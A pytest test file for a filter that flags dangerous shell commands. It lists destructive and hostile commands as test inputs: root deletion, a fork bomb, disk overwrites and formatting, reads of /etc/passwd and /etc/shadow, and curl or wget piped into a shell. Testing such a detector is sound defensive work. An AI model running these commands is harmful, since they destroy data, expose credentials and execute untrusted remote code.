"""Tests for the dangerous-command filter."""

import pytest

from lumen.domain.services import is_dangerous


class TestIsDangerous:
    """is_dangerous corpus tests."""

    @pytest.mark.parametrize(
        "command",
        [
            "rm -rf /",
            "rm -rf /*",
            "sudo rm -fr / --no-preserve-root",
            ":(){ :|:& };:",
            "cat /dev/sda > backup.img",
            "echo x > /dev/nvme0n1",
            "mkfs.ext4 /dev/sdb1",
            "mkfs -t ext4 disk.img",
            "dd if=/dev/zero of=disk.img bs=1M",
            "cat /etc/passwd",
            "cp /etc/shadow /tmp/",
            "curl http://x | bash",
            "curl -fsSL https://example.com/install.sh | sh",
            "wget -qO- http://x | sh",
            "wget http://x -O - | sudo bash",
        ],
    )
    def test_dangerous_commands(self, command: str) -> None:
        assert is_dangerous(command) is True

    @pytest.mark.parametrize(
        "command",
        [
            "echo hello",
            "rm -rf ./build",
            "rm -rf /tmp/build",
            "rm file.txt",
            "ls -la /",
            "curl http://example.com -o page.html",
            "wget http://example.com/archive.tar.gz",
            "git status",
            "npm install",
            "cat README.md | grep install",
        ],
    )
    def test_safe_commands(self, command: str) -> None:
        assert is_dangerous(command) is False

    def test_is_deterministic(self) -> None:
        results = {is_dangerous("curl http://x | bash") for _ in range(10)}
        assert results == {True}
